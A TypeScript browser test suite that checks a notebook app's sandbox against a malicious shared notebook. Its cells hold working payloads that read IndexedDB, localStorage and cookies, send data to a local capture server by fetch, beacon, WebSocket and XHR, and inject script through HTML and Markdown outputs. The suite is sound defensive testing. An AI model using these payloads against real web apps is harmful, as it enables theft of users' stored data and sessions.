/**
 * The attack suite (issue 5): a malicious notebook, opened as a share link would open it,
 * tries to (a) read the app's IndexedDB, (b) read localStorage, (c) read document.cookie,
 * (d) reach the parent or top DOM, (e) navigate the top window, (f) send the user's data to
 * a server on localhost, (g) run script through an HTML output, (h) run before consent, and
 * (i) drive the sandbox host from inside the worker.
 * Every attempt must fail and the user's data must be intact afterwards.
 */
import { afterAll, beforeAll, expect, test } from "vitest";
import { createServer, type Server } from "node:http";
import { freePort } from "./server";
import { loadNotebook, openApp, settle } from "./helpers";

const SECRET = "S3CRET-4f9a";
let server: Server;
let port = 0;
const hits: string[] = [];

beforeAll(async () => {
  port = await freePort();
  server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.end("ok");
  });
  await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve));
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

/** Each cell reports what its attack achieved as text; a success would contain the secret or a marker. */
function maliciousNotebook(exfil: string) {
  const attempt = (body: string) => `await (async () => { try { ${body} } catch (e) { return "blocked: " + (e && e.name) + " " + (e && e.message); } })()`;
  return [
    { source: attempt(`globalThis.__caravanRan = true; return "RAN-" + Date.now();`) },
    // (a) IndexedDB: open the user's database and read every notebook.
    {
      source: attempt(`return await new Promise((resolve) => {
  const request = indexedDB.open("caravan-user");
  request.onerror = () => resolve("blocked: " + request.error);
  request.onsuccess = () => {
    const db = request.result;
    if (!db.objectStoreNames.contains("notebooks")) return resolve("empty database (not the app's)");
    const all = db.transaction("notebooks").objectStore("notebooks").getAll();
    all.onsuccess = () => resolve(JSON.stringify(all.result));
  };
});`),
    },
    // (b) localStorage.
    { source: attempt(`return String(globalThis.localStorage.getItem("caravan-secret"));`) },
    // (c) cookies.
    { source: attempt(`return String(globalThis.document.cookie);`) },
    // (d) parent and top DOM.
    { source: attempt(`return String(globalThis.parent.document.body.innerHTML) + String(globalThis.top.document.title);`) },
    // (e) navigate the top window.
    { source: attempt(`globalThis.top.location.href = "${exfil}/navigated"; return "navigation attempted";`) },
    // (f) send data to a server on localhost, every way a worker can.
    {
      source: attempt(`const results = [];
for (const go of [
  () => fetch("${exfil}/fetch?d=" + encodeURIComponent(String(globalThis.localStorage))),
  () => navigator.sendBeacon("${exfil}/beacon", "x"),
  () => new Promise((resolve, reject) => { const ws = new WebSocket("${exfil.replace("http", "ws")}/ws"); ws.onopen = resolve; ws.onerror = () => reject(new Error("ws refused")); }),
  () => importScripts("${exfil}/import.js"),
  () => { const x = new XMLHttpRequest(); x.open("GET", "${exfil}/xhr", false); x.send(); return x.status; },
]) { try { results.push("sent: " + String(await go())); } catch (e) { results.push("blocked: " + e.name); } }
return results.join("; ");`),
    },
    // (g) script through HTML and Markdown outputs, and a beacon through an image.
    {
      source: `html\`<p id="g-html">html output</p><script>window.__pwned = "script"</script><img src="x" onerror="window.__pwned = 'onerror'"><svg><script>window.__pwned = "svg"</script><a id="g-link" href="javascript:window.__pwned='link'"><text y="20">x</text></a></svg><iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe><img src="${exfil}/img"><div style="background:url(${exfil}/css)">bg</div><meta http-equiv="refresh" content="0;url=${exfil}/refresh"><form action="${exfil}/form"><button id="g-submit">go</button></form>\``,
    },
    // The worker tries to drive its host: stop itself, start another worker, fake a reply.
    { source: attempt(`for (const m of [{ type: "terminate", generation: 0 }, { type: "start", generation: 9, code: new Blob(["1"]), codeVersion: "x" }, { type: "host-ready" }, { type: "worker-error", generation: 0, message: "pwned" }]) globalThis.postMessage(m); return "posted";`) },
    { source: `<script>window.__pwned = "markdown"</script>\n\n<img src="x" onerror="window.__pwned='md-onerror'">\n\n[link](javascript:window.__pwned='md-link')`, kind: "markdown" as const },
  ];
}

async function seedUserData(page: import("playwright-core").Page): Promise<void> {
  await page.evaluate(async (secret) => {
    localStorage.setItem("caravan-secret", secret);
    document.cookie = `session=${secret}; SameSite=Strict`;
    await new Promise<void>((resolve, reject) => {
      const request = indexedDB.open("caravan-user", 1);
      request.onupgradeneeded = () => request.result.createObjectStore("notebooks", { keyPath: "id" });
      request.onerror = () => reject(request.error);
      request.onsuccess = () => {
        const tx = request.result.transaction("notebooks", "readwrite");
        tx.objectStore("notebooks").put({ id: "mine", title: "My private notebook", source: secret });
        tx.oncomplete = () => (request.result.close(), resolve());
      };
    });
  }, SECRET);
}

async function readUserData(page: import("playwright-core").Page) {
  return page.evaluate(async () => {
    const notebooks = await new Promise<unknown[]>((resolve, reject) => {
      const request = indexedDB.open("caravan-user");
      request.onerror = () => reject(request.error);
      request.onsuccess = () => {
        const all = request.result.transaction("notebooks").objectStore("notebooks").getAll();
        all.onsuccess = () => (request.result.close(), resolve(all.result));
      };
    });
    return { notebooks, local: localStorage.getItem("caravan-secret"), cookie: document.cookie };
  });
}

test("a malicious notebook can neither run before consent nor reach the user's data after", async () => {
  const { context, page, errors } = await openApp();
  try {
    const exfil = `http://127.0.0.1:${port}`;
    await seedUserData(page);
    const before = await readUserData(page);
    const url = page.url();
    const ids = await loadNotebook(page, maliciousNotebook(exfil), false);

    // (h) Safe preview: the code is shown, nothing runs until the one deliberate click.
    await page.waitForTimeout(1500);
    expect(await page.locator(".preview-banner").isVisible()).toBe(true);
    expect(await page.locator(".cell .cm-content").first().textContent()).toContain("__caravanRan");
    for (const id of ids) expect(await page.locator(`.cell[data-id="${id}"]`).getAttribute("data-status")).toBeNull();
    expect(await page.locator(".cell-output").allTextContents()).not.toContain(expect.stringContaining("RAN-"));
    // Shift-Enter in preview does not run either.
    await page.locator(`.cell[data-id="${ids[0]}"] .cm-content`).click();
    await page.keyboard.press("Shift+Enter");
    await page.waitForTimeout(500);
    expect(await page.locator(`.cell[data-id="${ids[0]}"]`).getAttribute("data-status")).toBeNull();
    expect(hits).toEqual([]);
    await page.screenshot({ path: "/tmp/caravan-preview.png" });

    await page.locator(".preview-banner .consent").click();
    await settle(page, 15000);
    expect(await page.locator(".preview-banner").isVisible()).toBe(false);
    const outputs = await page.locator(".cell-output").allTextContents();
    expect(outputs[0]).toContain("RAN-");
    // (a)–(f): every attempt was blocked or reached nothing of the app's.
    for (const [i, text] of outputs.entries()) expect(text, `cell ${i}`).not.toContain(SECRET);
    expect(outputs[1]).toMatch(/blocked|empty database/);
    for (const i of [2, 3, 4, 5]) expect(outputs[i], `cell ${i}`).toMatch(/^"?blocked/);
    expect(outputs[6]).not.toMatch(/sent/);
    // (i) The host ignores its worker: the kernel lives on and no crash is reported.
    expect(outputs[8]).toContain("posted");
    expect(await page.locator(".kernel-state").getAttribute("data-state")).toBe("ready");
    expect(await page.evaluate(() => Promise.race([(window as any).caravan.kernel.api().then((api: any) => api.ping()).then(() => "alive"), new Promise((r) => setTimeout(() => r("dead"), 2000))]))).toBe("alive");

    // (g) HTML and Markdown outputs are shown, their scripts are not.
    expect(await page.locator("#g-html").count()).toBe(1);
    await page.locator("#g-link").click({ force: true, timeout: 2000 }).catch(() => undefined);
    await page.locator("#g-submit").click({ timeout: 1000 }).catch(() => undefined);
    await page.locator(".output-markdown a").last().click({ timeout: 1000 }).catch(() => undefined);
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
    expect(await page.locator(".cell-output script, .cell-output iframe, .cell-output [onerror], .cell-output meta").count()).toBe(0);

    // (e) and (f): no navigation, and the server on localhost never heard from the notebook.
    expect(page.url()).toBe(url);
    expect(hits).toEqual([]);
    // The user's other data is intact.
    expect(await readUserData(page)).toEqual(before);
    expect(before.notebooks).toEqual([{ id: "mine", title: "My private notebook", source: SECRET }]);
    expect(errors).toEqual([]);
    await page.screenshot({ path: "/tmp/caravan-attacks.png", fullPage: true });
  } finally {
    await context.close();
  }
});

test("the app and the sandbox are served with their Content-Security-Policy", async () => {
  const { context, page } = await openApp({ settle: false });
  try {
    const app = await page.request.get(page.url());
    expect(app.headers()["content-security-policy"]).toContain("script-src 'self'");
    const scriptSrc = app.headers()["content-security-policy"]!.split(";").find((d) => d.trim().startsWith("script-src"));
    expect(scriptSrc?.trim()).toBe("script-src 'self'");
    const sandbox = await page.request.get(new URL("/sandbox.html", page.url()).href);
    expect(sandbox.headers()["content-security-policy"]).toContain("connect-src 'none'");
    expect(sandbox.headers()["content-security-policy"]).toContain("sandbox allow-scripts");
    const frame = page.locator("iframe.sandbox-frame");
    expect(await frame.getAttribute("sandbox")).toBe("allow-scripts");
    // An inline script injected into the app page is refused by the policy.
    const ran = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.__inline = true";
      document.body.append(script);
      await new Promise((r) => setTimeout(r, 50));
      return (window as any).__inline === true;
    });
    expect(ran).toBe(false);
  } finally {
    await context.close();
  }
});
